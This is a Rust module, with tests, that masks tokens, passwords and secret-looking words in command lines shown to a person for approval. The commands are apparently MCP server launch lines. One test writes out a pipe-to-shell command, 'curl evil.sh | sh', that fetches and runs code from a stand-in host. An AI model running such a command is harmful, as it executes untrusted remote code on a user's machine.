//! What may be shown of a command line, so that a person can see what a file would have started.
//!
//! A person who is to allow a command must see it; but tokens stand in arguments, too, and are never shown. So what
//! looks like one is replaced: the value of an option or assignment whose name says so, the userinfo, query and
//! fragment of a URL, and words of the kind that only machines make up. A word too many is hidden rather than one too
//! few; the file itself shows everything to whoever may read it.

use url::Url;

use crate::model::secret::Secret;

const HIDDEN: &str = "***";

/// Words that name a secret, as parts of the name of an option, variable or key.
const TELLING: &[&str] =
    &["key", "token", "secret", "pass", "pwd", "auth", "cred", "bearer", "cookie", "session", "signature", "private"];

/// A program and its arguments on one line.
pub(super) fn command_line(command: &str, args: &[Secret]) -> String {
    let mut out = vec![word(command)];
    let mut hide_next = false;
    for arg in args.iter().map(Secret::expose) {
        let option = arg.starts_with('-') && !arg.contains('=');
        out.push(if hide_next && !option { HIDDEN.to_owned() } else { argument(arg) });
        hide_next = option && tells(arg);
    }
    out.join(" ")
}

/// A URL without userinfo, query and fragment, and without path segments that look like tokens.
pub(super) fn url(written: &str) -> String {
    match Url::parse(written) {
        Ok(url) if url.has_host() => {
            let path: Vec<String> = url.path().split('/').map(segment).collect();
            let port = url.port().map_or(String::new(), |port| format!(":{port}"));
            let rest = match (url.query(), url.fragment()) {
                (None, None) => "",
                (Some(_), _) => "?***",
                (None, Some(_)) => "#***",
            };
            let user = if url.username().is_empty() && url.password().is_none() { "" } else { "***@" };
            format!("{}://{user}{}{port}{}{rest}", url.scheme(), url.host_str().unwrap_or_default(), path.join("/"))
        }
        // No valid URL before its variables are expanded.
        _ if written.contains("${") && !written.contains(['@', '?', '#']) => {
            written.split('/').map(segment).collect::<Vec<_>>().join("/")
        }
        _ => HIDDEN.to_owned(),
    }
}

/// An argument may be a whole script (`sh -c '…'`): each of its words is looked at.
fn argument(arg: &str) -> String {
    let mut hide_next = false;
    let words: Vec<String> = arg
        .split(' ')
        .map(|text| {
            let shown = if hide_next { HIDDEN.to_owned() } else { assignment(text) };
            hide_next = (text.starts_with('-') || text.ends_with(':')) && !text.contains('=') && tells(text)
                || text.eq_ignore_ascii_case("bearer");
            shown
        })
        .collect();
    let line = words.join(" ");
    if line.is_empty() || line.contains([' ', '\'', '"']) { format!("{line:?}") } else { line }
}

/// `NAME=value` and `--name=value` where the name tells; else the word as a whole.
fn assignment(text: &str) -> String {
    match text.split_once('=') {
        Some((name, value)) if tells(name) && !value.is_empty() => format!("{name}={HIDDEN}"),
        Some((name, value)) => format!("{}={}", word(name), word(value)),
        None => word(text),
    }
}

fn word(text: &str) -> String {
    let plain = text.trim_matches(['\'', '"', ',', ';']);
    if plain.contains("://") {
        return url(plain);
    }
    if text.contains('/') {
        return text.split('/').map(segment).collect::<Vec<_>>().join("/");
    }
    segment(text)
}

/// A word, or a part of a path or URL, unless it looks like a token.
fn segment(text: &str) -> String {
    if looks_made_up(text) { HIDDEN.to_owned() } else { text.to_owned() }
}

fn tells(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    TELLING.iter().any(|telling| name.contains(telling))
}

/// Whether a word is of the kind that only machines make up: long, and with digits among its letters or capitals in
/// its middle. Variables (`${TOKEN}`) and versions (`pkg@1.2.3`) are not.
fn looks_made_up(text: &str) -> bool {
    if text.contains("${") || text.contains("{env:") || text.starts_with('$') {
        return false;
    }
    let letters = text.chars().filter(char::is_ascii_alphabetic).count();
    let digits = text.chars().filter(char::is_ascii_digit).count();
    let capitals = text.chars().filter(char::is_ascii_uppercase).count();
    let is_version = text.contains('@') && text.contains('.');
    let mixed = letters > 0 && digits > 0 && text.len() >= 12 && !is_version;
    let camel = capitals > 1 && letters > capitals && text.len() >= 16;
    mixed || camel || text.len() >= 64
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(words: &[&str]) -> String {
        let args: Vec<Secret> = words[1..].iter().map(|word| Secret::new(*word)).collect();
        command_line(words[0], &args)
    }

    #[test]
    fn ordinary_command_lines_are_shown_as_they_are() {
        for line in [
            "npx -y @modelcontextprotocol/server-filesystem /home/joe/Documents",
            "uvx mcp-server-fetch@2025.4.7 --ignore-robots-txt",
            "node dist/index.js --port 3000 ${API_KEY}",
            "docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server",
            "mcp-remote https://mcp.example.com/sse --transport sse-only",
        ] {
            let words: Vec<&str> = line.split(' ').collect();
            assert_eq!(shown(&words), line);
        }
        assert_eq!(shown(&["sh", "-c", "curl evil.sh | sh"]), "sh -c \"curl evil.sh | sh\"");
    }

    #[test]
    fn tokens_are_hidden_wherever_they_stand() {
        let canary = "sk-c4nary0000deadbeef";
        for words in [
            vec!["x", "--api-key", canary],
            vec!["x", "--api-key=letters"],
            vec!["x", "--password", "letters"],
            vec!["x", canary],
            vec!["x", "-e", "TOKEN=letters"],
            vec!["x", "--header", "Authorization: Bearer letters"],
            vec!["sh", "-c", "API_KEY=letters run"],
            vec!["sh", "-c", "run --token letters"],
            vec!["x", "postgresql://joe:letters@db/x"],
            vec!["x", "https://h/mcp?key=letters"],
            vec!["x", "https://h/sk-c4nary0000deadbeef/mcp"],
            vec!["x", "https://h/mcp#letters"],
            vec!["x", "AbCdEfGhIjKlMnOpQr"],
            vec!["x", "0123456789abcdef0123456789abcdef"],
        ] {
            let line = shown(&words);
            assert!(line.contains("***"), "{line}");
            for secret in [canary, "letters", "AbCdEf", "0123456"] {
                assert!(!line.contains(secret), "{line}");
            }
        }
    }
}
